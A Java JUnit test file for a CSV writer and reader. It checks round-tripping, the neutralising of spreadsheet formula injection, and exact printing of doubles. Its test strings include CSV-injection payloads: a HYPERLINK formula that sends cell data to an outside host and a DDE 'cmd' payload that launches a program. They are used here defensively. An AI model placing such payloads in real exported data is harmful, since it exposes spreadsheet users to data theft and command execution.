package org.iago.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Random;

import org.junit.jupiter.api.Test;

/**
 * Text written by {@link CsvWriter} reads back unchanged through {@link CsvReader}, and no text field as a
 * spreadsheet sees it starts a formula; values of typed columns are written as they print.
 */
class CsvRoundTripTest {

    /** What a spreadsheet takes as the start of a formula (OWASP CSV Injection; NUL from ASVS 5.0 V1.2.10). */
    private static final String FORMULA_STARTS = "=+-@\t\r\n\0";

    private static final List<String> TRICKY = List.of("=1+1", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0", "-", "+", "@", "=", "@SUM(1)", "-2+3", "'", "''", "'=x", "''=x", "'''-", "'abc",
            "\tTAB", "\t", "\r", "\n", "\r\n=1", "\n=1", "\0x", "a,b", "\"", "\"\"", "\"=1\"", "a\"b", "line\nbreak",
            "cr\rlf", "x;=1+1", " =1", "", "plain", "Guillain-Barre syndrome/neuropathy", "0-30", ">100",
            "Réaction cutanée", "心筋炎", "😀=", "=😀", "\uFEFF=1", "\uFEFF", "NaN", "-Infinity", "-0.35");

    @Test
    void everyTrickyTextReadsBackUnchanged() throws IOException {
        for (String s : TRICKY) {
            assertEquals(List.of(List.of(s, "tail")), roundTrip(List.of(List.of(s, "tail"))), () -> show(s));
            assertEquals(List.of(List.of("head", s)), roundTrip(List.of(List.of("head", s))), () -> show(s));
        }
        List<List<String>> all = new ArrayList<>();
        all.add(TRICKY);
        List<String> reversed = new ArrayList<>(TRICKY);
        Collections.reverse(reversed);
        all.add(reversed);
        assertEquals(all, roundTrip(all));
    }

    @Test
    void randomTextsOfTrickyCharactersReadBackUnchanged() throws IOException {
        char[] alphabet = "=+-@'\",;\t\r\n\0 a1é心\uD83D\uDE00".toCharArray();
        Random random = new Random(17);
        for (int run = 0; run < 2_000; run++) {
            List<List<String>> records = new ArrayList<>();
            for (int r = 1 + random.nextInt(3); r > 0; r--) {
                List<String> record = new ArrayList<>();
                for (int c = 1 + random.nextInt(4); c > 0; c--) {
                    StringBuilder s = new StringBuilder();
                    for (int n = random.nextInt(6); n > 0; n--) {
                        char ch = alphabet[random.nextInt(alphabet.length)];
                        // a surrogate pair stays whole: the emoji's two halves are the last two characters
                        s.append(ch == '\uD83D' || ch == '\uDE00' ? "\uD83D\uDE00" : String.valueOf(ch));
                    }
                    record.add(s.toString());
                }
                if (record.size() == 1 && record.get(0).isEmpty()) {
                    record.add("x");  // a lone empty field is an empty line, which readers skip
                }
                records.add(record);
            }
            String csv = write(records);
            assertEquals(records, CsvReader.records(csv, "random"), () -> show(csv));
            assertNoFormula(csv);
        }
    }

    @Test
    void aTextThatWouldStartAFormulaIsMarkedAndQuoted() throws IOException {
        assertEquals("\"'=HYPERLINK(\"\"http://x\"\")\",\"'+1+cmd|' /C calc'!A0\",\"'-\",\"'@x\"\n",
                write(List.of(List.of("=HYPERLINK(\"http://x\")", "+1+cmd|' /C calc'!A0", "-", "@x"))));
        assertEquals("\"'\tx\",\"'\rx\",\"'\nx\",\"'\0x\"\n", write(List.of(List.of("\tx", "\rx", "\nx", "\0x"))));
        assertEquals("\"''=x\",\"''\",x\n", write(List.of(List.of("'=x", "'", "x"))),
                "a leading ' gets one more, so the mark is known on reading");
        assertNoFormula(write(List.of(TRICKY)));
    }

    @Test
    void valuesOfTypedColumnsAreWrittenAsTheyPrint() throws IOException {
        StringWriter out = new StringWriter();
        new CsvWriter(out).record(Arrays.asList("drug", -0.35, Double.NEGATIVE_INFINITY, Double.NaN, -3L, true,
                java.time.LocalDate.of(2024, 1, 31), null, "-0.35"));
        assertEquals("drug,-0.35,-Infinity,NaN,-3,true,2024-01-31,,\"'-0.35\"\n", out.toString(),
                "a number stays a number; the same characters in a text column are text");
        StringWriter shown = new StringWriter();
        new CsvWriter(shown).value("-1.23e-05").text("-1.23e-05").value("a,b").endRecord();
        assertEquals("-1.23e-05,\"'-1.23e-05\",\"a,b\"\n", shown.toString());
    }

    @Test
    void aDoublePrintsAsItsShortestDecimalThatReadsBackExactly() throws IOException {
        StringWriter out = new StringWriter();
        // Java 17's Double.toString prints the first two as 1.9999999999999998E23 and 2.24132002032956928E18
        new CsvWriter(out).record(Arrays.asList(2e23, 2.2413200203295693E18, 0.1, 1e-3, 1e-4, 1e7, 9999999.0, 0.0, -0.0,
                Double.MIN_VALUE, Double.MAX_VALUE, Double.POSITIVE_INFINITY));
        assertEquals("2.0E23,2.2413200203295693E18,0.1,0.001,1.0E-4,1.0E7,9999999.0,0.0,-0.0,4.9E-324,"
                + "1.7976931348623157E308,Infinity\n", out.toString());
        Random random = new Random(7);
        for (int i = 0; i < 100_000; i++) {
            double d = i % 2 == 0 ? random.nextDouble() * Math.pow(10, random.nextInt(40) - 20)
                    : Double.longBitsToDouble(random.nextLong());
            StringWriter one = new StringWriter();
            new CsvWriter(one).value(d);
            String printed = one.toString();
            assertEquals(Double.doubleToLongBits(d), Double.doubleToLongBits(Double.parseDouble(printed)), printed);
            String java = Double.toString(d);
            assertTrue(printed.length() <= java.length(), () -> printed + " longer than " + java);
        }
    }

    @Test
    void textWithoutAMarkIsWrittenAsBefore() throws IOException {
        assertEquals("drug,event,a\nBCMA,\"Infections, viral\",12\nCD19,\"say \"\"hi\"\"\",3\nx y,0-30,>100\n",
                write(List.of(List.of("drug", "event", "a"), List.of("BCMA", "Infections, viral", "12"),
                        List.of("CD19", "say \"hi\"", "3"), List.of("x y", "0-30", ">100"))));
    }

    @Test
    void anUnclosedQuoteNamesTheFileAndTheLineOfItsRecord() {
        IOException e = assertThrows(IOException.class,
                () -> CsvReader.records("drug,event\r\nA,B\r\n\"C,D\n", "signals/target/disproportionality.csv"));
        assertEquals("signals/target/disproportionality.csv: a quoted field of the record on line 3 is not closed",
                e.getMessage());
    }

    @Test
    void aReaderTakesOffOneMarkAndOnlyAtTheStart() throws IOException {
        assertEquals(List.of(List.of("=1", "'=1", "a'b", "", "\uFEFFx")),
                CsvReader.records("\uFEFF\"'=1\",\"''=1\",a'b,,\uFEFFx", "f"), "a byte order mark is skipped");
    }

    private static List<List<String>> roundTrip(List<List<String>> records) throws IOException {
        return CsvReader.records(write(records), "test");
    }

    private static String write(List<List<String>> records) throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter csv = new CsvWriter(out);
        for (List<String> r : records) {
            csv.record(r);
        }
        return out.toString();
    }

    private static void assertNoFormula(String csv) throws IOException {
        for (List<String> record : CsvReader.fields(csv, "test")) {
            for (String field : record) {
                assertFalse(!field.isEmpty() && FORMULA_STARTS.indexOf(field.charAt(0)) >= 0,
                        () -> show(field) + " starts a formula in " + show(csv));
            }
        }
    }

    private static String show(String s) {
        return "[" + s.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n").replace("\0", "\\0") + "]";
    }
}
